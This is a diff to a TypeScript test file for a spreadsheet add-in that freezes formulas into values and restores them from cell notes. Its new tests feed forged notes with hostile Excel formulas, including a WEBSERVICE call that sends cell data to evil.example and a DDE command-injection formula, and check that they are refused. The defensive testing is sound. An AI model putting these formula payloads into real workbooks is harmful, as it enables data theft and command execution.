@@ -1,5 +1,14 @@
+import type { CellValue, Work } from "../../src/host/host";
+import { checksumOf, fnv1a } from "../../src/taskpane/workbook/checksum";
 import { readNote, writeNote } from "../../src/taskpane/workbook/frozen-note";
-import { type Ending, freeze, planFreeze, type Scope, unfreeze } from "../../src/taskpane/workbook/freezing";
+import {
+  type Ending,
+  freeze,
+  planFreeze,
+  planUnfreeze,
+  type Scope,
+  unfreeze,
+} from "../../src/taskpane/workbook/freezing";
 import { sourceFunctions } from "../setup/excel";
 import { type MemoryCell, MemoryHost } from "./memory-host";
 
@@ -36,6 +45,9 @@ const hostOf = (cells = CELLS): MemoryHost => new MemoryHost(cells, RESULTS);
 const freezeAll = async (host: MemoryHost, scope: Scope = WHOLE): Promise<Ending> =>
   freeze(host, await planFreeze(host, scope, {}), STAMP, {});
 
+const unfreezeAll = async (host: MemoryHost, scope: Scope, work: Work): Promise<Ending> =>
+  unfreeze(host, await planUnfreeze(host, scope, {}), work);
+
 beforeAll(() => void sourceFunctions());
 
 it("puts values in the place of our formulas, whole tables too, and leaves every other formula", async () => {
@@ -58,7 +70,7 @@ it("gives the very workbook back when it is unfrozen", async () => {
   const host = hostOf();
   const before = host.content;
   await freezeAll(host);
-  expect(await unfreeze(host, WHOLE, {})).toMatchObject({ done: 4, cleared: 0, left: [], failure: null });
+  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 4, cleared: 0, left: [], failure: null });
   expect(host.content).toEqual(before);
 });
 
@@ -66,8 +78,8 @@ it("keeps to one sheet where that is wanted", async () => {
   const host = hostOf();
   expect((await freezeAll(host, "Two")).done).toBe(2);
   expect(host.content["One!A1"]!.formula).toBe(QUARTER);
-  expect((await unfreeze(host, "One", {})).done).toBe(0);
-  expect((await unfreeze(host, "Two", {})).done).toBe(2);
+  expect((await unfreezeAll(host, "One", {})).done).toBe(0);
+  expect((await unfreezeAll(host, "Two", {})).done).toBe(2);
 });
 
 it("leaves protected sheets and cells without a result alone, and says so", async () => {
@@ -98,7 +110,7 @@ it("leaves frozen values that somebody typed over, with the formula in their not
   await freezeAll(host);
   host.type("One!A1", { value: 2051 });
   host.type("Two!D4", { value: 0.04 });
-  expect(await unfreeze(host, WHOLE, {})).toMatchObject({
+  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
     done: 2,
     left: [
       { sheet: "One", address: "A1", reason: "changed" },
@@ -117,7 +129,7 @@ it("only takes the note from a cell whose formula is back, and leaves one with a
   host.type("Two!C3", { formula: TABLE });
   // Below the table that came back somebody has begun to type.
   host.type("Two!C5", { value: "mine" });
-  expect(await unfreeze(host, WHOLE, {})).toMatchObject({
+  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
     done: 1,
     cleared: 2,
     left: [{ sheet: "One", address: "A3", reason: "other-formula" }],
@@ -138,7 +150,7 @@ it("leaves frozen cells that moved, whose formulas would name other cells; witho
   // Somebody put a row above.
   const { "One!A1": quarter, "One!A3": other } = host.content;
   const moved = new MemoryHost({ "One!A2": quarter!, "One!A4": other! }, { ...RESULTS, [version]: 8200 });
-  expect(await unfreeze(moved, WHOLE, {})).toMatchObject({
+  expect(await unfreezeAll(moved, WHOLE, {})).toMatchObject({
     done: 1,
     left: [{ sheet: "One", address: "A2", reason: "moved" }],
   });
@@ -153,14 +165,14 @@ it("names the cells that the spreadsheet does not let be changed, and counts the
   host.untouchable = undefined;
   await freezeAll(host);
   host.untouchable = "One!A1";
-  expect(await unfreeze(host, WHOLE, {})).toMatchObject({ done: 3, left, isCancelled: false });
+  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 3, left, isCancelled: false });
 });
 
 it("leaves notes of protected sheets", async () => {
   const host = hostOf();
   await freezeAll(host);
   host.locked = ["Two"];
-  expect(await unfreeze(host, WHOLE, {})).toMatchObject({
+  expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
     done: 2,
     left: [
       { sheet: "Two", address: "C3", reason: "protected" },
@@ -177,10 +189,10 @@ it("loses nothing to an undo in between", async () => {
   host.undo();
   expect(host.content).toEqual(before);
   await freezeAll(host);
-  await unfreeze(host, WHOLE, {});
+  await unfreezeAll(host, WHOLE, {});
   // An undo of the last sheet that came back.
   host.undo();
-  await unfreeze(host, WHOLE, {});
+  await unfreezeAll(host, WHOLE, {});
   expect(host.content).toEqual(before);
   expect(frozen).not.toEqual(before);
 });
@@ -199,12 +211,12 @@ describe("when the host fails half-way", () => {
 
       host.failAfter = undefined;
       const halfway = host.content;
-      await unfreeze(host, WHOLE, {});
+      await unfreezeAll(host, WHOLE, {});
       expect(host.content).toEqual(before);
 
       const again = hostOf(halfway);
       expect((await freezeAll(again)).done).toBe(4 - done);
-      await unfreeze(again, WHOLE, {});
+      await unfreezeAll(again, WHOLE, {});
       expect(again.content).toEqual(before);
     },
   );
@@ -214,9 +226,9 @@ describe("when the host fails half-way", () => {
     const before = host.content;
     await freezeAll(host);
     host.failAfter = count;
-    expect(await unfreeze(host, WHOLE, {})).toMatchObject({ done: count, failure: new Error("The host gave up.") });
+    expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: count, failure: new Error("The host gave up.") });
     host.failAfter = undefined;
-    expect((await unfreeze(host, WHOLE, {})).done).toBe(4 - count);
+    expect((await unfreezeAll(host, WHOLE, {})).done).toBe(4 - count);
     expect(host.content).toEqual(before);
   });
 });
@@ -238,7 +250,7 @@ describe("when it is cancelled", () => {
     const before = host.content;
     const ending = await freeze(host, await planFreeze(host, WHOLE, {}), STAMP, cancelAt(2));
     expect(ending).toMatchObject({ done: 2, isCancelled: true, failure: null });
-    await unfreeze(host, WHOLE, {});
+    await unfreezeAll(host, WHOLE, {});
     expect(host.content).toEqual(before);
   });
 
@@ -246,9 +258,9 @@ describe("when it is cancelled", () => {
     const host = hostOf();
     const before = host.content;
     await freezeAll(host);
-    expect(await unfreeze(host, WHOLE, cancelAt(2))).toMatchObject({ done: 2, isCancelled: true });
+    expect(await unfreezeAll(host, WHOLE, cancelAt(2))).toMatchObject({ done: 2, isCancelled: true });
     expect(host.content["Two!C3"]!.formula).toBeUndefined();
-    await unfreeze(host, WHOLE, {});
+    await unfreezeAll(host, WHOLE, {});
     expect(host.content).toEqual(before);
   });
 
@@ -272,5 +284,108 @@ it("reads a note that a person in another language wrote", async () => {
     userNote: null,
   });
   const host = hostOf({ "One!A1": { value: 1, note } });
-  expect((await unfreeze(host, WHOLE, {})).left).toEqual([{ sheet: "One", address: "A1", reason: "changed" }]);
+  expect((await unfreezeAll(host, WHOLE, {})).left).toEqual([{ sheet: "One", address: "A1", reason: "changed" }]);
+});
+
+describe("a note that somebody else wrote", () => {
+  const forged = (formula: string, values: CellValue[][], size = "1x1"): string =>
+    `Frozen\n${formula}\n[statut-social/1 B1 ${size} ${checksumOf(values)} 1 ${fnv1a(formula)} 2026-01-01 d1]`;
+
+  it.each([
+    ['=WEBSERVICE("http://evil.example/?"&A1)', '=WEBSERVICE("http://evil.example/?"&A1)'],
+    ["=cmd|'/C calc'!A0", "=cmd|'/C calc'!A0"],
+    ['=INASTI.QUARTERLY(HYPERLINK("http://evil.example","x"))', "HYPERLINK"],
+    ["=INASTI.QUARTERLY(INDIRECT(A1))", "INDIRECT"],
+    ["=INASTI.QUARTERLY([Book2.xlsx]Sheet1!A1)", "[Book2.xlsx]"],
+    ["=INASTI.QUARTERLY(Secret)", "Secret"],
+  ])("has nothing written that freezing would not take: %s", async (formula, part) => {
+    const host = hostOf({ "One!B1": { value: 2050, note: forged(formula, [[2050]]) } });
+    host.names = [{ name: "Secret", formula: '=WEBSERVICE("http://evil.example")' }];
+    const before = host.content;
+    const plan = await planUnfreeze(host, WHOLE, {});
+    expect(plan).toMatchObject({ cells: [], left: [{ sheet: "One", address: "B1", reason: "unfit", part }] });
+    await unfreeze(host, plan, {});
+    expect(host.content).toEqual(before);
+  });
+
+  it("clears no formula that stands in the area it claims, also where the values fit", async () => {
+    const cells = {
+      "One!B1": { value: 3, note: forged(QUARTER, [[3], [3]], "2x1") },
+      "One!B2": { formula: "=SUM(A1:A3)", value: 3 },
+    };
+    const host = new MemoryHost(cells, { ...RESULTS, "=SUM(A1:A3)": 3 });
+    const before = host.content;
+    expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 0, left: [{ address: "B1", reason: "changed" }] });
+    expect(host.content).toEqual(before);
+  });
+
+  it.each(["1048575x16383", "200000x100", "9999999x9999999", "1048576x16384"])(
+    "has no area of %s read, and the others come back",
+    async (size) => {
+      const host = hostOf();
+      await freezeAll(host);
+      host.type("Three!B1", { value: 1, note: forged(QUARTER, [[1]], size) });
+      const read = jest.spyOn(host, "readRanges");
+      expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({
+        done: 4,
+        left: [{ sheet: "Three", address: "B1", reason: "large" }],
+      });
+      for (const [places] of read.mock.calls) expect(places.map(({ address }) => address)).not.toContain("B1");
+    },
+  );
+
+  it("of the first release is believed where its formula is one of ours", async () => {
+    const host = hostOf({ "One!A1": { value: 2050, note: forged(QUARTER, [[2050]]).replace(" B1 ", " A1 ") } });
+    expect(await unfreezeAll(host, WHOLE, {})).toMatchObject({ done: 1, left: [] });
+    expect(host.content).toEqual({ "One!A1": { formula: QUARTER, value: 2050 } });
+  });
+});
+
+it("freezes no formula that could not come back, and says of which part", async () => {
+  const formula = "=INASTI.QUARTERLY(INDIRECT(A1))";
+  const host = new MemoryHost({ "One!A1": { formula } }, { [formula]: 2050 });
+  expect(await freezeAll(host)).toMatchObject({
+    done: 0,
+    left: [{ sheet: "One", address: "A1", reason: "unfit", part: "INDIRECT" }],
+  });
+});
+
+it("keeps the frozen formula of a cell in which another was typed and frozen too", async () => {
+  const host = hostOf({ "One!A1": { formula: QUARTER } });
+  await freezeAll(host);
+  host.type("One!A1", { formula: DOUBLE, value: 16400 });
+  await freezeAll(host);
+  expect(host.content["One!A1"]!.note).toContain(QUARTER);
+  expect(host.content["One!A1"]!.note).toContain(DOUBLE);
+  await unfreezeAll(host, WHOLE, {});
+  expect(host.content["One!A1"]).toMatchObject({ formula: DOUBLE, note: expect.stringContaining(QUARTER) as string });
+});
+
+it("leaves and lists what changed between the plan and the work", async () => {
+  const host = hostOf();
+  const plan = await planFreeze(host, WHOLE, {});
+  host.beforeWork = () => host.type("One!A1", { formula: "=SUM(Q1:Q9)*MYRATE", value: 42 });
+  expect(await freeze(host, plan, STAMP, {})).toMatchObject({
+    done: 3,
+    left: [{ sheet: "One", address: "A1", reason: "meanwhile" }],
+  });
+  expect(host.content["One!A1"]).toEqual({ formula: "=SUM(Q1:Q9)*MYRATE", value: 42 });
+
+  const back = await planUnfreeze(host, WHOLE, {});
+  host.beforeWork = () => host.type("One!A3", { value: "typed" });
+  expect(await unfreeze(host, back, {})).toMatchObject({
+    done: 2,
+    left: [{ sheet: "One", address: "A3", reason: "changed" }],
+  });
+  expect(host.content["One!A3"]).toMatchObject({ value: "typed", note: expect.stringContaining(DOUBLE) as string });
+});
+
+it("hands the stop on to what reads the values", async () => {
+  const host = hostOf();
+  await freezeAll(host);
+  const { signal } = new AbortController();
+  const read = jest.fn(host.readRanges);
+  host.readRanges = read;
+  await planUnfreeze(host, WHOLE, { signal });
+  expect(read.mock.calls.map(([, ...work]: unknown[]) => work)).toEqual([[{ signal }]]);
 });
